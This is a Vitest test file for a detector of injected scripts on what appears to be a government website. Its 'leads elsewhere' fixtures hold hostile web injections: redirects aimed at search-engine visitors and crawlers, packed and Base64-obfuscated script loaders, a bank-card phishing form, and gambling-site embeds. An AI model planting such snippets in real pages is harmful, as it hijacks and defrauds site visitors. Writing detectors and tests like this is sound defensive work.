import { describe, expect, it } from 'vitest';
import { suspiciousScript } from '../../lib/rules/suspicious-script';
import { faultsOf } from '../tamper/faults';

const url = 'https://www.chengyuan.gov.cn/xxgk/1.html';
const said = (inside: string) =>
  faultsOf(suspiciousScript, `<html><head>${inside}</head><body><p>报告</p></body></html>`, url).map(
    ({ say }) => say,
  );

describe('leads elsewhere', () => {
  it.each([
    [
      'visitors from search engines',
      '<script>if(/baidu|sogou/i.test(document.referrer)){location.href="https://kawa.example.com"}</script>',
      'script',
    ],
    [
      'crawlers',
      '<script>if(navigator.userAgent.indexOf("Baiduspider")>-1)document.write("<iframe src=//kawa.example.com></iframe>")</script>',
      'script',
    ],
    [
      'a title for crawlers',
      '<script>if(/spider/.test(navigator.userAgent)){document.title="卡瓦湾"}</script>',
      'script',
    ],
    [
      'packed code',
      '<script>if(/baidu/.test(document.referrer))eval(function(p,a,c,k,e,d){return p}("1",1,1,"".split("|")))</script>',
      'packed',
    ],
    ['a refresh', '<meta http-equiv="refresh" content="0; url=http://kawa.example.com/">', 'refresh'],
    [
      'a frame over the page',
      '<iframe src="http://kawa.example.com/" style="position:fixed;width:100%;height:100%"></iframe>',
      'frame',
    ],
    ['a base abroad', '<base href="https://www.kawa-spread.net/">', 'base'],
    [
      'a form that asks for bank cards',
      '</head><body><form action="http://login.kawa-safe.com/post.php">姓名<input name="n">银行卡号<input name="c"></form>',
      'form',
    ],
    [
      'a picture that loads a script when it fails',
      '</head><body><img src="x" onerror="var s=document.createElement(\'script\');s.src=\'//tj.kawa-spread.com/j\';document.body.appendChild(s)">',
      'source',
    ],
    [
      'an address in pieces',
      '<script>(function(){var d=document,s=d.createElement("scr"+"ipt");s.src="//js.ka"+"wa-tj.c"+"om/go.js";d.head.appendChild(s)})();</script>',
      'disguised',
    ],
    [
      'a page that loads a script when it is shown',
      "</head><body onload=\"setTimeout(function(){var s=document.createElement('script');s.src='//sdk.kw-tj.xyz/gg.js';document.body.appendChild(s)},1500)\"><p>报告</p>",
      'source',
    ],
    [
      'an address in Base64 as a script’s source',
      '<script>(function(){var s=document.createElement("script");s.src=atob("aHR0cHM6Ly9qcy5rYXdhdGFpLnh5ei90Lmpz");document.head.appendChild(s)})();</script>',
      'disguised',
    ],
    [
      'a title in numbers of characters',
      '<script>document.title=String.fromCharCode(30343,23478,36172,22330,95,30343,23478,22269,38469,23089,20048);</script>',
      'script',
    ],
    [
      'packed words that ask where visitors come from',
      `<script>eval(function(p,a,c,k,e,d){return p}('0(1.2.3("4")>=0){5.6="7://8.9/"}',10,10,'if|document|referrer|indexOf|baidu|location|href|https|wap|k8x'.split('|'),0,{}))</script>`,
      'packed',
    ],
    ['a script from a seller', '<script src="//www.kw-bocai.com/hm.js"></script>', 'source'],
    [
      'a seller’s page embedded',
      '</head><body><object data="https://kw-casino.com/game" type="text/html" width="300" height="200"></object>',
      'embed',
    ],
  ])('%s', (_, inside, say) => {
    expect(said(inside)).toEqual([say]);
  });
});

describe('honest', () => {
  it.each([
    [
      'statistics',
      '<script>var s=document.createElement("script");if(/baidu/.test(document.referrer)){s.src="https://hm.baidu.com/hm.js?x"}</script>',
    ],
    ['phones', '<script>if(/Android|iPhone/i.test(navigator.userAgent)){location.href="/wap/"}</script>'],
    [
      'phones, on another name of the site',
      '<script>if(/baiduboxapp/i.test(navigator.userAgent)){location.href="https://m.chengyuan.gov.cn/"}</script>',
    ],
    ['a base on the site’s other name', '<base href="http://www.lanze-port.cn/">'],
    ['a base on the site', '<base href="http://www.chengyuan.gov.cn/">'],
    [
      'a form of a mail service',
      '</head><body><form action="https://mail.kawa.com/login">账号<input name="u">密码<input type="password"></form>',
    ],
    [
      'a picture in place of one that is gone',
      '</head><body><img src="x" onerror="this.src=\'/images/none.png\'">',
    ],
    [
      'strings joined',
      '<script>document.write("<scr"+"ipt src=\'/js/count.js\'></scr"+"ipt>")</script><script src="https://www.kawa.com/a.js"></script>',
    ],
    [
      'an account of mail in Base64',
      '<script>document.getElementById("m").textContent=atob("emhicHVAY2hlbmd5dWFuLmdvdi5jbg==")</script>',
    ],
    ['a way back', '<script>function back(){location.href=document.referrer||"/"}</script>'],
    ['a refresh on the site', '<meta http-equiv="refresh" content="0;url=/index.html">'],
    ['the weather', '<iframe src="https://i.tianqi.com/" width="220" height="30"></iframe>'],
    [
      'a film in a box that keeps its shape',
      '</head><body><div style="position:relative"><iframe src="https://video.example.com/1" style="position:absolute;width:100%;height:100%"></iframe></div>',
    ],
    ['a film', '<iframe src="https://video.example.com/1" width="600" height="400"></iframe>'],
  ])('%s', (_, inside) => {
    expect(said(inside)).toEqual([]);
  });
});
